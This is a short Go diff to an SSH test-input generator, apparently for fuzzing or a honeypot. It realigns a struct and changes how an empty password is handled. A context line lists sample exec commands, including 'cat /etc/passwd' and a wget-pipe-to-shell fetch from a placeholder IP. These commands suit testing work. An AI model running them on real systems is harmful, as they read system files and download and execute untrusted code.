@@ -395,9 +395,9 @@ func sshPayload(r *hx.Rand, ty string) []byte {
 		return ssh.Marshal(struct{ Name, Value string }{r.PickStr([]string{"LANG", "TERM", "LC_ALL"}), r.PickStr([]string{"C", "xterm", "en_US.UTF-8"})})
 	case "pty-req":
 		return ssh.Marshal(struct {
-			Term                   string
-			Cols, Rows, Wpx, Hpx   uint32
-			Modes                  string
+			Term                 string
+			Cols, Rows, Wpx, Hpx uint32
+			Modes                string
 		}{"xterm", 80, 24, 0, 0, "\x00"})
 	case "exec":
 		return ssh.Marshal(struct{ Command string }{r.PickStr([]string{"uname -a", "cat /etc/passwd", "wget http://198.51.100.1/x.sh -O- | sh", "id"})})
@@ -432,8 +432,8 @@ func genSSHInputs(o hx.Opts, r *hx.Rand) []SSHInput {
 			in.Accept = "never-" + fmt.Sprint(i)
 		default:
 			in.Accept = in.Passwords[r.Intn(len(in.Passwords))]
-			if in.Accept == "" {
-				in.Accept = in.Passwords[0]
+			if in.Accept == "" { // the backend never accepts an empty password
+				in.Accept = "never-" + fmt.Sprint(i)
 			}
 		}
 		nr := r.PickInt([]int{0, 1, 2, 3, 5})
